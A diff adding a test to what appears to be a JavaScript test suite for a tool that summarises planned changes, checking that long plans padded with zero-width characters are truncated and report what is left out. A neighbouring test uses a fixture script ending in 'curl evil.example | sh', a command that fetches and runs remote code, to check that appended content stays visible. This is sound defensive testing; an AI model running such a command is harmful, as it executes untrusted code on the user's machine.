@@ -34,6 +34,16 @@ test('an object that names its owner very often is one object', () => {
   expect(performance.now() - from).toBeLessThan(SOON_MS)
 })
 
+test('a plan is never long, whatever signs it has to write out, and says how much is left out', () => {
+  const unseen = '\u200b'.repeat(400)
+  const data = Object.fromEntries(Array.from({ length: 2000 }, (_, index) => [`key-${index}`, unseen]))
+  const empty = { facts: [], affected: [], counts: [], notes: [], object: null, bound: '', state: '' }
+  const { plan } = finished({ ...empty, kind: 'write', summary: 'new', changes: changed(null, { data }) }, 0)
+  expect(JSON.stringify(plan).length).toBeLessThan(200_000)
+  expect(plan.changes.length).toBeGreaterThan(0)
+  expect(plan.cut).toEqual([{ what: 'changes', missing: 2000 - plan.changes.length }])
+})
+
 test('what is new at the end of a long text is in sight', () => {
   const script = 'echo all is well\n'.repeat(300)
   const [change] = shownOf({ data: { run: script } }, { data: { run: `${script}curl evil.example | sh` } })
